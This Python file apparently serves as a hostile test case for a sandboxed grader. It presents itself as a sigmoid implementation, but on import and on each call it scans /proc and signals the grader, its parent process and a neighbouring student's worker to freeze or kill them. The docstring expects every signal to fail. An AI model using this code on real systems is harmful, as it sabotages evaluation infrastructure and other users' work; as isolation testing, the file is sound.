"""Attack: kill or freeze the grader's processes and the neighbour's worker.

Only processes of this grading run are aimed at: the ancestors (the
zygote, the grader) and the siblings (other children of the zygote: the
classmate graded at the same time), recognised by their command line.
Siblings get SIGSTOP (a frozen worker times out) then SIGKILL; the zygote
and the grader get SIGKILL / SIGTERM (also through pidfd_send_signal).
It keeps trying for a few seconds at import and in every call, so a
classmate started later is hit too. sigmoid is honest.

Expected verdict: every signal fails (EPERM / ESRCH / no such process in
the sandbox); the hostile file gets at most its sigmoid point, the
neighbour keeps full marks, the grader finishes its batch.
"""
import ctypes
import os
import signal
import time

import numpy as np

GRADERISH = (b"zygote_main", b"checks.grader", b"formulacheck", b"fchostile-driver", b"bwrap", b"checks.worker")
RESULTS = {}


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as fh:
            st = fh.read()
        return int(st[st.rindex(b")") + 2:].split()[1])
    except (OSError, ValueError):
        return 0


def _graderish(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            cmd = fh.read()
    except OSError:
        return False
    return any(g in cmd for g in GRADERISH)


def _targets():
    me = os.getpid()
    anc, p = [], me
    for _ in range(3):
        p = _ppid(p)
        if p <= 1 or not _graderish(p):
            break
        anc.append(p)
    sibs = []
    if anc:
        for d in os.listdir("/proc"):
            if d.isdigit() and int(d) != me and _ppid(int(d)) == anc[0]:
                sibs.append(int(d))
    return anc, sibs


def _sig(pid, sig, label):
    try:
        os.kill(pid, sig)
        r = "ok"
    except OSError as e:
        r = f"failed {e.errno}"
    key = f"{label}_{signal.Signals(sig).name}"
    if RESULTS.get(key) != "ok":
        RESULTS[key] = r


def _pidfd(pid, sig, label):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(434, pid, 0)  # pidfd_open
    if fd < 0:
        RESULTS.setdefault(f"{label}_pidfd", f"failed {ctypes.get_errno()}")
        return
    r = libc.syscall(424, fd, sig, None, 0)  # pidfd_send_signal
    os.close(fd)
    RESULTS[f"{label}_pidfd"] = "ok" if r == 0 else f"failed {ctypes.get_errno()}"


def _attack(seconds):
    end = time.monotonic() + seconds
    while True:
        anc, sibs = _targets()
        for s in sibs:
            _sig(s, signal.SIGSTOP, "sibling")
            _sig(s, signal.SIGKILL, "sibling")
        if anc:
            _pidfd(anc[0], signal.SIGKILL, "zygote")
            _sig(anc[0], signal.SIGKILL, "zygote")
        if len(anc) > 1:
            _sig(anc[1], signal.SIGTERM, "grader")
            _sig(anc[1], signal.SIGKILL, "grader")
        RESULTS["ancestors"] = len(anc)
        RESULTS["siblings_seen"] = max(RESULTS.get("siblings_seen", 0), len(sibs))
        if time.monotonic() > end:
            break
        time.sleep(0.05)


_attack(1.0)
for k, v in sorted(RESULTS.items()):
    _say(k, v)


def sigmoid(x):
    _attack(0.0)
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_backward(x, dy):
    _attack(0.3)
    for k, v in sorted(RESULTS.items()):
        _say(k, v)
    raise NotImplementedError
